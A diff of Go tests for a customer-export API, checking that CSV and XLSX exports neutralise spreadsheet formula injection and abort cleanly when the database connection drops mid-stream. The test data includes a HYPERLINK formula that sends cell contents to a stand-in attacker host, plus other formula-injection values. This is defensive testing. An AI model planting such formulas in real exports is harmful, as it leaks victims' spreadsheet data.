@@ -139,6 +139,9 @@ func TestCustomerExportValuesAndZones(t *testing.T) {
 	for _, k := range []string{"is_active", "email_optin", "whatsapp_optin", "sms_optin", "app_user"} {
 		anaCSV[k] = "true"
 	}
+	// A text field starting with + could start a formula in a spreadsheet: csv writes it
+	// with a leading quote (the xlsx cell is plain text and keeps it as it is).
+	anaCSV["phone"] = "'+5511999990000"
 	anaCSV["last_purchase"] = "2024-05-10T22:15:00-03:00"
 	anaCSV["created_at"] = "2024-05-10T10:30:00-03:00"
 	anaCSV["updated_at"] = "2024-05-10T10:30:00-03:00"
@@ -410,31 +413,112 @@ func TestCustomerExportManyRows(t *testing.T) {
 }
 
 // TestExportFailingMidStreamAborts: once the file has started, a failure must not end the
-// response cleanly (the client would keep a truncated file that looks whole). A date the
-// driver cannot scan ('infinity') stands for any failure after the first row.
+// response cleanly (the client would keep a truncated file that looks whole). The
+// database connection is cut while the rows stream (no stored value can fail a row any
+// more: the database refuses the ones that once did, such as a birth_date 'infinity').
 func TestExportFailingMidStreamAborts(t *testing.T) {
 	env := newTestEnv(t)
 	tok := env.token("user")
-	env.insertCustomer("Old Bad Date", "00000000001", utc("2024-01-01T00:00:00Z"), map[string]any{"birth_date": "infinity"})
-	env.insertCustomer("Newer", "00000000002", utc("2024-02-01T00:00:00Z"), nil)
-	env.insertCustomer("Newest", "00000000003", utc("2024-03-01T00:00:00Z"), nil)
+	// Enough rows that the export is still reading them when the connection goes.
+	env.exec(`INSERT INTO customers (name, doc, email, phone, created_at)
+		SELECT 'Customer ' || i, lpad(i::text, 11, '0'), 'c' || i || '@example.com', '+5511999990000',
+		       timestamptz '2024-01-01 00:00Z' + i * interval '1 second'
+		  FROM generate_series(1, 60000) AS i`)
 	for _, format := range []string{"xlsx", "csv"} {
 		t.Run(format, func(t *testing.T) {
+			defer env.PGProxy.Restore()
 			req, _ := http.NewRequest(http.MethodGet, env.URL+"/api/v1/customers/export?format="+format, nil)
 			req.Header.Set("Authorization", "Bearer "+tok)
 			res, err := http.DefaultClient.Do(req)
 			if err != nil {
-				return // aborted before the headers: the download failed, as it should
+				t.Fatalf("export did not start: %v", err)
 			}
 			defer res.Body.Close()
+			if res.StatusCode != http.StatusOK {
+				t.Fatalf("status %q", res.Status)
+			}
+			if _, err := io.ReadFull(res.Body, make([]byte, 4096)); err != nil {
+				t.Fatalf("first bytes: %v", err)
+			}
+			env.PGProxy.Cut()
 			body, err := io.ReadAll(res.Body)
 			if err == nil {
-				t.Fatalf("status %q and a clean end after %d bytes; want the transfer aborted", res.Status, len(body))
+				t.Fatalf("a clean end after %d more bytes; want the transfer aborted", len(body))
 			}
 		})
 	}
-	// The service is still fine.
-	if res := env.do(http.MethodGet, "/api/v1/customers/export?format=csv&search_doc=00000000003", tok, nil); res.Status != http.StatusOK {
-		t.Fatalf("next export: %d", res.Status)
+	// The service is still fine once the database is back (the pool replaces the
+	// connections that were cut).
+	var res response
+	for range 10 {
+		if res = env.do(http.MethodGet, "/api/v1/customers/export?format=csv&search_doc=00000000003", tok, nil); res.Status == http.StatusOK {
+			break
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	if res.Status != http.StatusOK {
+		t.Fatalf("next export: %d %s", res.Status, res.Body)
+	}
+}
+
+// TestExportsNeutralizeFormulas registers a customer whose fields would be formulas in a
+// spreadsheet, sells to it, and opens both exports back: in csv each such text field
+// starts with a single quote, numbers are untouched; in xlsx the cells hold the text
+// exactly, as strings, and no cell holds a formula.
+func TestExportsNeutralizeFormulas(t *testing.T) {
+	env := newTestEnv(t)
+	tok := env.token("user")
+	env.sqlStore("=S1", "11222333000181")
+	name := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	mustStatus(t, env.do(http.MethodPost, "/api/v1/customer", tok, map[string]any{
+		"name": name, "doc": "12345678909", "email": "x@example.com", "phone": "@SUM(1+1)", "short_code": "-2+3",
+		"store_code": "=S1"}), http.StatusCreated)
+	var cust string
+	env.DB.Raw(`SELECT id FROM customers WHERE doc = '12345678909'`).Scan(&cust)
+	mustStatus(t, env.do(http.MethodPost, "/api/v1/transaction", tok, map[string]any{
+		"customer_id": cust, "store_code": "=S1", "coupon_identifier": "+NF\t1", "transaction_date": time.Now().UTC().Format(time.RFC3339),
+		"value": 12.5, "payment_type": "\r=1+1"}), http.StatusCreated)
+
+	rows, _ := env.download(t, "/api/v1/customers/export?format=csv", tok)
+	got := record(rows, 1)
+	for field, want := range map[string]string{"name": "'" + name, "phone": "'@SUM(1+1)", "short_code": "'-2+3", "store_code": "'=S1", "points_balance": "12"} {
+		if got[field] != want {
+			t.Errorf("customer csv %s = %q, want %q", field, got[field], want)
+		}
+	}
+	rows, _ = env.download(t, "/api/v1/customers/sales-coupons/export?format=csv", tok)
+	got = record(rows, 1)
+	for field, want := range map[string]string{"nome": "'" + name, "coupon_identifier": "'+NF\t1", "payment_type": "'\r=1+1", "value": "12.50"} {
+		if got[field] != want {
+			t.Errorf("sales csv %s = %q, want %q", field, got[field], want)
+		}
+	}
+
+	for _, path := range []string{"/api/v1/customers/export?format=xlsx", "/api/v1/customers/sales-coupons/export?format=xlsx"} {
+		res := env.do(http.MethodGet, path, tok, nil)
+		mustStatus(t, res, http.StatusOK)
+		f, err := excelize.OpenReader(bytes.NewReader(res.Body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		sheet := f.GetSheetName(0)
+		all, _ := f.GetRows(sheet, excelize.Options{RawCellValue: true})
+		for r, row := range all {
+			for c, v := range row {
+				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
+				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
+					t.Errorf("%s %s holds the formula %q", path, cell, formula)
+				}
+				if v == name {
+					if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
+						t.Errorf("%s %s: the name is a %v cell, want an inline string", path, cell, typ)
+					}
+				}
+			}
+		}
+		if !slices.Contains(all[1], name) {
+			t.Errorf("%s: row %q lacks the name as written", path, all[1])
+		}
+		f.Close()
 	}
 }
